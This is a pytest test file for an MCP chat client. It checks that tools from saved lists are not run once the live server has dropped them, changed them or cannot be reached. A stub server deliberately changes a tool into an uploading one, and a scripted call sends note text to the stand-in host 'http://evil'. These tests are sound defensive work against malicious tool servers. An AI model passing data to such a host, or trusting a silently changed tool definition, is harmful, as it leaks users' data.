"""Tools known before their servers connect (issue 48): the bundled server's, shipped with the client,
and every other server's last listing, saved per user. Real stdio servers held at a gate (they read
their input only once a file exists), the session and per-turn hook the terminal uses
(client/ui/startup.py wire_session); assertions are on the request bodies the recording model stub
received and on what the servers ran. Every wait is for a sign (the model's request, a start that
ended), never a time.

The servers play the attacker where it matters (tests/stubs/shifting_server.py): a tool offered from
a saved list that the live server has changed or dropped never runs on the strength of the saved
definition.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
from pathlib import Path

import pytest
from mcp import types

from client.engine.frontend import Frontend
from client.engine.mcp.hub import ToolHub
from client.engine.mcp.bundled import DATA, dump
from client.engine.mcp.permissions import Permissions
from client.engine.mcp.saved_approvals import SavedApprovals
from client.engine.mcp.saved_tools import SavedTools
from client.engine.mcp.server import ServerConn
from client.engine.mcp.specs import ServerSpec, bundled_spec, load_config
from client.ui import i18n
from tests.conftest import ROOT
from tests.e2e.test_mcp_lazy import Lazy, names
from tests.sessions import run_turn

pytestmark = pytest.mark.sqlite_only
SHIFTING = ROOT / "tests" / "stubs" / "shifting_server.py"
MANY = ROOT / "tests" / "stubs" / "many_tools_server.py"
SEARCH = ["web_search", "news_search", "blog_search"]


class Answers(Frontend):
    def __init__(self, answer: str | None) -> None:
        self.answer, self.asked = answer, []

    async def approve(self, request):
        self.asked.append(request)
        return self.answer


def described(request: dict, name: str) -> str:
    return next(t["function"]["description"] for t in request["tools"] if t["function"]["name"] == name)


def tool_texts(request: dict) -> list[str]:
    return [m["content"] for m in request["messages"] if m["role"] == "tool"]


def gated(spec: ServerSpec, gate: Path) -> ServerSpec:
    """The same server, started only once `gate` exists (a slow start, opened by the test)."""
    wait = 'while [ ! -e "$0" ]; do sleep 0.02; done; exec "$@"'
    spec.command, spec.args = "/bin/sh", ["-c", wait, str(gate), spec.command, *spec.args]
    return spec


def shifting(tmp: Path, version: str, gate_open: bool) -> ServerSpec:
    """The same entry at every launch (its saved list applies): serving `version`, held at its gate
    (tmp/gate) unless `gate_open`."""
    (tmp / "state").write_text(version)
    (tmp / "gate").touch() if gate_open else (tmp / "gate").unlink(missing_ok=True)
    args = [str(SHIFTING), str(tmp / "state"), str(tmp / "ran.log"), str(tmp / "gate")]
    return ServerSpec("shift", "stdio", command=sys.executable, args=args, shown=f"{sys.executable} {SHIFTING}")


class Launch(Lazy):
    """One launch of the chat as a terminal runs it (tests/e2e/test_mcp_lazy.py), with the user's
    saved lists (under tmp/cache) and saved approvals, questions answered by `front`."""

    def __init__(self, tmp: Path, llm, specs: list[ServerSpec], front: Frontend | None = None) -> None:
        super().__init__(tmp, llm, specs)
        self.front = front or Frontend()

    def make_hub(self) -> ToolHub:
        perms = Permissions(saved=SavedApprovals(self.tmp / "permissions.json"), frontend=self.front)
        self.saved = SavedTools("alice", self.tmp / "cache")
        return ToolHub(self.specs, permissions=perms, frontend=self.front, saved=self.saved)

    async def turn(self, text: str, gate: Path | None = None) -> list[dict]:
        """One message; the requests the model received for it. `gate`: opened once the first
        request is in (the server was still held back when the message went)."""
        before = len(self.llm.turn_requests())
        await self.tools.refresh()
        turn = asyncio.ensure_future(run_turn(self.session, text))
        if gate is not None:
            while len(self.llm.turn_requests()) == before and not turn.done():
                await asyncio.sleep(0.01)  # polls for the sign: the model's request
            assert self.hub.fleet.starting(), "the server was up before the message went"
            gate.touch()
        await turn
        return self.llm.turn_requests()[before:]


@pytest.fixture(autouse=True)
def korean():
    i18n.set_lang("ko")


@pytest.fixture
def naver_env(monkeypatch, naver):
    for name, value in (("NAVER_CLIENT_ID", naver.client_id), ("NAVER_CLIENT_SECRET", naver.client_secret),
                        ("NAVER_API_BASE_URL", naver.base_url), ("MCP_CHAT_DAEMON", "0")):
        monkeypatch.setenv(name, value)


async def test_the_shipped_definitions_are_what_the_bundled_server_lists(naver_env):
    """One source of truth: client/engine/mcp/bundled_tools.json is the live server's tools/list
    (scripts/bundled_tools.py writes it); a change to server/app.py's tools fails here until it is rewritten."""
    conn = ServerConn(bundled_spec(env=os.environ))
    try:
        assert await conn.start(120), conn.error
        assert [dump(t) for t in conn.tools] == json.loads(DATA.read_text(encoding="utf-8"))
    finally:
        await conn.aclose()


async def test_the_first_request_of_a_first_launch_carries_web_search_and_the_search_runs(tmp_path, llm, naver,
                                                                                         naver_env):
    gate = tmp_path / "gate"
    llm.push({"tool_calls": [("web_search", {"query": "강남역 맛집"})]}, {"text": "찾았습니다"})
    async with Launch(tmp_path, llm, [gated(bundled_spec(env=os.environ), gate)]) as chat:
        assert not (tmp_path / "cache").exists()  # a first launch ever: nothing saved
        first, *rest = await chat.turn("강남역 맛집 검색해줘", gate=gate)
        assert names(first) == SEARCH  # sent while the server was held back
        assert [r["params"]["query"] for r in naver.requests] == ["강남역 맛집"]  # the call waited for it and ran
        assert '"items"' in tool_texts(rest[-1])[-1]
        assert not (tmp_path / "cache").exists()  # the bundled list ships with the client: never saved


async def test_a_server_whose_tools_changed_between_launches(tmp_path, llm):
    async with Launch(tmp_path, llm, [shifting(tmp_path, "1", gate_open=True)]) as chat:
        await chat.hub.fleet.wait()
        assert [t.name for t in chat.saved.load(chat.specs[0]).tools] == ["note"]  # kept for the next launch
    llm.push({"tool_calls": [("note", {"text": "x"})]}, {"text": "안 됐어요"})
    # the next launch: `note` is gone, `memo` came
    async with Launch(tmp_path, llm, [shifting(tmp_path, "3", gate_open=False)]) as chat:
        first, *rest = await chat.turn("메모해 줘", gate=tmp_path / "gate")
        assert names(first) == ["note"]  # the saved list, before the server was up
        assert tool_texts(rest[-1]) == ["The tool note is no longer offered by MCP server shift, so this call was not run."]
        assert not (tmp_path / "ran.log").exists()
        (second,) = await chat.turn("다시")
        assert names(second) == ["memo"]  # the live list replaced it: gone left, new joined
        assert [t.name for t in chat.saved.load(chat.specs[0]).tools] == ["memo"]


async def test_a_saved_tool_whose_live_definition_changed_is_not_run_and_asks_again(tmp_path, llm):
    llm.push({"tool_calls": [("note", {"text": "a"})]}, {"text": "적었어요"})
    async with Launch(tmp_path, llm, [shifting(tmp_path, "1", gate_open=True)], Answers("always")) as chat:
        await chat.hub.fleet.wait()
        await chat.turn("메모해 줘")
    assert (tmp_path / "ran.log").read_text() == "note a -\n"  # approved "always" as version 1
    front = Answers("once")
    llm.push({"tool_calls": [("note", {"text": "b"})]}, {"text": "못 했어요"},
             {"tool_calls": [("note", {"text": "c", "upload_to": "http://evil"})]}, {"text": "했어요"})
    # the server turns on its user: a new description, parameter and hint
    async with Launch(tmp_path, llm, [shifting(tmp_path, "2", gate_open=False)], front) as chat:
        first, *rest = await chat.turn("메모해 줘", gate=tmp_path / "gate")
        assert described(first, "note") == "Writes a note."  # offered as saved
        assert "changed (description, input_schema, annotations) since its definition was sent to you" \
            in tool_texts(rest[-1])[-1]
        assert front.asked == [] and (tmp_path / "ran.log").read_text() == "note a -\n"  # not run, not asked
        second, _ = await chat.turn("다시 메모해 줘")
        assert "uploads" in described(second, "note")  # the live definition now
        assert len(front.asked) == 1 and front.asked[0].changed == ("description", "input_schema", "annotations")
        assert front.asked[0].destructive is True  # asked again, about the tool as it is now
    assert (tmp_path / "ran.log").read_text() == "note a -\nnote c http://evil\n"  # run once the user said so


async def test_a_saved_tool_of_a_server_that_does_not_start_is_not_run(tmp_path, llm):
    spec = shifting(tmp_path, "1", gate_open=False)  # the gate never opens
    spec.startup_timeout = 0.5
    note = types.Tool(name="note", description="Writes a note.", inputSchema={"type": "object"})
    SavedTools("alice", tmp_path / "cache").save(spec, [note], 0, "private")  # its last listing
    llm.push({"tool_calls": [("note", {"text": "x"})]}, {"text": "안 됐어요"})
    async with Launch(tmp_path, llm, [spec]) as chat:
        first, *rest = await chat.turn("메모해 줘")
        assert names(first) == ["note"]
        assert tool_texts(rest[-1])[-1].startswith("MCP server shift could not be reached to check the tool note (")
        (second,) = await chat.turn("다시")
        assert "tools" not in second  # its start failed: the saved tools left the next request
    assert not (tmp_path / "ran.log").exists()


def test_a_corrupt_saved_list_is_ignored_with_one_line(tmp_path, cli):
    config = tmp_path / "mcp.json"
    config.write_text(json.dumps({"mcpServers": {"gh": {"command": sys.executable,
                                                        "args": [str(MANY), "github", "--count", "2"]}}}))
    (spec,) = load_config(str(config))
    path = SavedTools("alice", tmp_path / ".cache" / "mcp-chat" / "tools").path(spec)  # HOME is tmp_path
    path.parent.mkdir(parents=True, mode=0o700)
    path.write_bytes(b'{"format": 1, "tools": [{"name": ')
    path.chmod(0o600)
    r = cli("--new", "--user", "alice", "--no-memory", "--mcp-config", str(config), input="안녕\n")
    assert r.code == 0, r.err
    said = [ln for ln in r.err.splitlines() if "저장된 도구 목록" in ln]
    assert said == [f"저장된 도구 목록 파일을 읽을 수 없어 무시합니다: {path}"], r.err  # one line, no traceback
    assert "Traceback" not in r.err
    saved = SavedTools("alice", path.parent).load(spec)  # replaced by the live listing
    assert saved is not None and [t.name for t in saved.tools] == ["github_list_issue", "github_list_pull_request"]
